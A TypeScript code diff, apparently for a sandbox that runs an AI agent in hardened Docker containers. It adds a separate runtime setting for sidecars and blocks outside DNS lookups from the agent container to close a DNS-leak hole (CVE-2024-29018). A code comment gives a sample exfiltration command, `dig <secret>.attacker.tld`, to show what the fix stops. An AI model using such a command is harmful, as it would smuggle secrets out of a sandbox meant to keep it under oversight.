@@ -17,7 +17,10 @@ export interface DockerBottlePlan {
   plan: BottlePlan;
   images: ImageRefs;
   owner: Ownership;
+  /** The agent's OCI runtime (isolation.ts): `runsc` for gVisor; absent for the engine's default. */
   runtime?: string;
+  /** The sidecars' runtime (docs/isolation.md says why they differ from the agent's). */
+  sidecarRuntime?: string;
   networks: { internal: string; egress: string };
   egressProxy: ContainerSpec & { name: string };
   agent: ContainerSpec & { name: string };
@@ -35,8 +38,10 @@ export interface PrepareInput {
   images: ImageRefs;
   /** Answers to the manifest's `?prompt` env entries. */
   answers: Readonly<Record<string, string>>;
-  /** gVisor when the engine has it (G7). */
+  /** The agent's OCI runtime, from the bottle's isolation (isolation.ts); absent: the engine's default. */
   runtime?: string;
+  /** The sidecars' OCI runtime; absent: the engine's default. */
+  sidecarRuntime?: string;
   owner: Ownership;
   /** Host dir for this instance's logs (the egress audit log), bind-mounted into the proxy. */
   logDir: string;
@@ -48,6 +53,15 @@ export interface PrepareInput {
 
 export const AGENT_LIMITS = { pids: 1024, memoryBytes: 4 * 1024 ** 3 } as const;
 export const SIDECAR_LIMITS = { pids: 512, memoryBytes: 1024 ** 3 } as const;
+
+/**
+ * For containers on the internal network only (the agent, cred-proxy, supervise): Docker's
+ * embedded resolver still answers the bottle's container names, but forwards every other name to
+ * this address inside the container's own namespace, where nothing answers. Without it, engines
+ * before 26.0.2 forward those names through the host's namespace when the host's resolver is on
+ * loopback (CVE-2024-29018): `dig <secret>.attacker.tld` would leave the bottle.
+ */
+export const NO_OUTSIDE_DNS = { dns: ["127.0.0.1"] } as const;
 
 /** Hardening every container of a bottle gets (G7). */
 const HARDENING = { capDrop: ["ALL"], securityOpt: ["no-new-privileges"], init: true } as const;
@@ -99,7 +113,7 @@ export function labelsFor(instance: string, role: ResourceRole, owner?: Ownershi
  * limits of G7, on the internal network. A sidecar module adds its command, env and aliases.
  */
 export function sidecarBase(
-  docker: Pick<DockerBottlePlan, "instance" | "images" | "owner" | "runtime">,
+  docker: Pick<DockerBottlePlan, "instance" | "images" | "owner" | "sidecarRuntime">,
   role: SidecarRole,
 ): ContainerSpec & { name: string } {
   return {
@@ -107,7 +121,7 @@ export function sidecarBase(
     image: docker.images.sidecar,
     labels: labelsFor(docker.instance, role, docker.owner),
     ...HARDENING,
-    ...(docker.runtime === undefined ? {} : { runtime: docker.runtime }),
+    ...(docker.sidecarRuntime === undefined ? {} : { runtime: docker.sidecarRuntime }),
     pidsLimit: SIDECAR_LIMITS.pids,
     memoryBytes: SIDECAR_LIMITS.memoryBytes,
     network: resourceName(docker.instance, "internal-network"),
@@ -122,7 +136,13 @@ export function prepareDocker(input: PrepareInput): DockerBottlePlan {
     egress: resourceName(instance, "egress-network"),
   };
   const runtime = input.runtime === undefined ? {} : { runtime: input.runtime };
-  const base = { instance, images: input.images, owner: input.owner, ...runtime };
+  const base = {
+    instance,
+    images: input.images,
+    owner: input.owner,
+    ...runtime,
+    ...(input.sidecarRuntime === undefined ? {} : { sidecarRuntime: input.sidecarRuntime }),
+  };
   const supervise = plan.supervise.enabled
     ? superviseDirs(input.home ?? dirname(dirname(input.logDir)), instance)
     : undefined;
@@ -156,6 +176,7 @@ export function prepareDocker(input: PrepareInput): DockerBottlePlan {
       labels: labelsFor(instance, "agent", input.owner),
       ...HARDENING,
       ...runtime,
+      ...NO_OUTSIDE_DNS,
       pidsLimit: AGENT_LIMITS.pids,
       memoryBytes: AGENT_LIMITS.memoryBytes,
       network: networks.internal,
